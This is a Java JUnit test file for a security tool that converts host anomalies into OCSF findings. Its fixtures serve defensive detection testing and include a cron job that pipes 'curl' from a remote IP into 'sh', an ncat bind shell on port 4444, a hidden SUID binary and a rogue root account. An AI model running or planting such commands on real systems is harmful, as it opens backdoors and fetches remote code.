package io.diffy.schemas.json;

import static io.diffy.schemas.TestFindings.BIND_SHELL;
import static io.diffy.schemas.TestFindings.DROPPER_ON_THREE;
import static io.diffy.schemas.TestFindings.LOGROTATE_CHANGED;
import static io.diffy.schemas.TestFindings.NO_ANSWER;
import static io.diffy.schemas.TestFindings.finding;
import static io.diffy.schemas.TestObservations.ROGUE_LISTENER;
import static io.diffy.schemas.TestObservations.ROGUE_SUID;
import static io.diffy.schemas.TestObservations.ROGUE_USER;
import static io.diffy.schemas.TestObservations.instance;
import static io.diffy.schemas.TestObservations.row;
import static io.diffy.schemas.json.FindingCodecTest.tree;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.diffy.schemas.Finding;
import io.diffy.schemas.GroupKey;
import io.diffy.schemas.Instance;
import io.diffy.schemas.Kind;
import io.diffy.schemas.TestFindings;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What real consumers of OCSF have stumbled over. */
class FindingTrapsTest {
  private static final Finding AT_HOME =
      TestFindings.in(
          new GroupKey("", "", "local"), List.of(Instance.named("local", "laptop")), BIND_SHELL);

  @Test
  void theAwsAccountIsNoTenantForIndexTemplatesMapThatToAnInteger() {
    assertTrue(tree(BIND_SHELL).at("/metadata/tenant_uid").isMissingNode());
    assertEquals("123456789012", tree(BIND_SHELL).at("/cloud/account/uid").textValue());
  }

  @Test
  void evidenceDataIsTextForIndexTemplatesRefuseObjects() throws IOException {
    JsonNode data = tree(BIND_SHELL).at("/evidences/0/data");
    assertTrue(data.isTextual());
    assertEquals("4444", Json.mapper().readTree(data.textValue()).get("port").textValue());
  }

  @Test
  void onlyProfilesThatAreUsedAreListed() {
    assertEquals("[\"cloud\",\"host\"]", tree(BIND_SHELL).at("/metadata/profiles").toString());
    assertEquals("[\"cloud\"]", tree(DROPPER_ON_THREE).at("/metadata/profiles").toString());
    assertEquals("[\"host\"]", tree(AT_HOME).at("/metadata/profiles").toString());
  }

  @Test
  void nothingIsOfAwsWhenNoAccountIsKnown() {
    String json = tree(AT_HOME).toString();
    assertFalse(json.contains("AWS"), json);
    assertFalse(json.contains("Auto Scaling Group"), json);
    assertEquals(0, tree(AT_HOME).at("/device/type_id").intValue());
    assertEquals("AWS::EC2::Instance", tree(BIND_SHELL).at("/resources/0/type").textValue());
  }

  @Test
  void resourcesHaveNoProviderForOnlyTheNewestVersionKnowsIt() {
    assertTrue(tree(BIND_SHELL).at("/resources/0/provider").isMissingNode());
  }

  @Test
  void noEvidenceIsNothingButResources() {
    for (Finding finding : TestFindings.ALL) {
      for (JsonNode evidence : tree(finding).at("/evidences")) {
        assertTrue(evidence.has("data"));
        assertFalse(evidence.has("resources"));
      }
    }
  }

  @Test
  void aListenerIsAnEndpointAndAProcess() {
    JsonNode evidence = tree(BIND_SHELL).at("/evidences/0");
    assertEquals("{\"ip\":\"0.0.0.0\",\"port\":4444}", evidence.get("src_endpoint").toString());
    assertEquals(6661, evidence.at("/process/pid").intValue());
    assertEquals("/tmp/.x/ncat", evidence.at("/process/file/path").textValue());
    assertEquals("tcp", evidence.at("/connection_info/protocol_name").textValue());
  }

  @Test
  void anOpenSocketHasBothEnds() {
    Map<String, String> beacon =
        row(
            "name",
            "sh",
            "path",
            "/bin/sh",
            "protocol",
            "6",
            "family",
            "10",
            "local_address",
            "::ffff:10.0.0.7",
            "local_port",
            "50000",
            "remote_address",
            "2001:db8::7",
            "remote_port",
            "443",
            "pid",
            "77");
    JsonNode evidence = evidence("process_open_sockets", beacon);
    assertEquals("2001:db8::7", evidence.at("/dst_endpoint/ip").textValue());
    assertEquals(443, evidence.at("/dst_endpoint/port").intValue());
    assertEquals("::ffff:10.0.0.7", evidence.at("/src_endpoint/ip").textValue());
  }

  @ParameterizedTest
  @CsvSource({"pid,-1", "pid,", "pid,0x10", "pid,99999999999", "port,65536", "port,ssh", "port,-1"})
  void numbersThatAreNoneAreLeftToTheRawRow(String column, String text) {
    Map<String, String> odd = new java.util.LinkedHashMap<>(ROGUE_LISTENER);
    odd.put(column, text == null ? "" : text);
    JsonNode evidence = evidence("listening_ports", odd);
    assertTrue(
        evidence.at(column.equals("pid") ? "/process" : "/src_endpoint/port").isMissingNode());
    assertTrue(evidence.get("data").textValue().contains("\"" + column + "\""));
  }

  @ParameterizedTest
  @CsvSource({
    "*",
    "/run/x.sock",
    "1.2.3",
    "1.2.3.256",
    "1:2:3:4:5:6:7:8:9",
    "1::2::3",
    "::g",
    "fe80::1%eth0"
  })
  void addressesThatAreNoneAreLeftToTheRawRow(String address) {
    Map<String, String> odd = new java.util.LinkedHashMap<>(ROGUE_LISTENER);
    odd.put("address", address);
    assertTrue(evidence("listening_ports", odd).at("/src_endpoint").isMissingNode());
  }

  @Test
  void aCronLineIsAJob() {
    JsonNode job = tree(DROPPER_ON_THREE).at("/evidences/0/job");
    assertEquals("root curl -s http://203.0.113.7/x | sh", job.get("cmd_line").textValue());
    assertEquals("/etc/cron.d/.sync", job.at("/file/path").textValue());
    assertEquals("* * * * *", job.get("desc").textValue());
  }

  @Test
  void aFileHasItsHashesAndItsOwner() {
    JsonNode file = evidence("suid_bin", ROGUE_SUID).get("file");
    assertEquals(".su", file.get("name").textValue());
    assertEquals(3, file.at("/hashes/0/algorithm_id").intValue());
    assertEquals("root", file.at("/owner/name").textValue());
    assertEquals(125_688, file.get("size").intValue());
  }

  @Test
  void anAccountIsAUser() {
    JsonNode user = evidence("users", ROGUE_USER).get("user");
    assertEquals("{\"name\":\"sysd\",\"uid\":\"0\"}", user.toString());
  }

  @Test
  void whatPeersHaveStandsBesideWhatWasFound() {
    JsonNode json = tree(LOGROTATE_CHANGED);
    assertEquals(2, json.get("evidences").size());
    JsonNode analysis = json.at("/anomaly_analyses/0");
    assertEquals("crontab.command", analysis.at("/anomalies/0/observation_parameter").textValue());
    assertEquals(39, analysis.at("/baselines/0/observations/0/count").intValue());
    assertEquals("Auto Scaling Group", analysis.at("/analysis_targets/0/type").textValue());
  }

  @Test
  void aGapInCoverageHasNoEvidenceBeyondWhatIsWrong() {
    JsonNode evidences = tree(NO_ANSWER).get("evidences");
    assertEquals(1, evidences.size());
    assertEquals(
        "{\"coverage\":\"error\",\"detail\":\"no such table: suid_bin\"}",
        evidences.at("/0/data").textValue());
  }

  @Test
  void subTechniquesStandUnderTheirTechnique() {
    JsonNode attacks = tree(BIND_SHELL).at("/finding_info/attacks");
    assertEquals(
        "[{\"technique\":{\"uid\":\"T1571\",\"name\":\"Non-Standard Port\"}},"
            + "{\"technique\":{\"uid\":\"T1053\",\"name\":\"Scheduled Task/Job\"},"
            + "\"sub_technique\":{\"uid\":\"T1053.003\",\"name\":\"Cron\"}}]",
        attacks.toString());
  }

  @Test
  void observablesAreWhatAPersonSearchesFor() {
    List<String> found =
        StreamSupport.stream(tree(BIND_SHELL).get("observables").spliterator(), false)
            .map(one -> one.get("type_id") + " " + one.get("value").textValue())
            .toList();
    assertEquals(
        List.of(
            "1 ip-10-0-0-7",
            "2 10.0.0.7",
            "10 i-0000000000000007",
            "11 4444",
            "9 ncat",
            "13 ncat -lk 4444 -e /bin/sh",
            "45 /tmp/.x/ncat"),
        found);
  }

  private static JsonNode evidence(String query, Map<String, String> row) {
    return tree(finding(Kind.UNEXPECTED, query, row, Map.of(), List.of(instance(7))))
        .at("/evidences/0");
  }
}
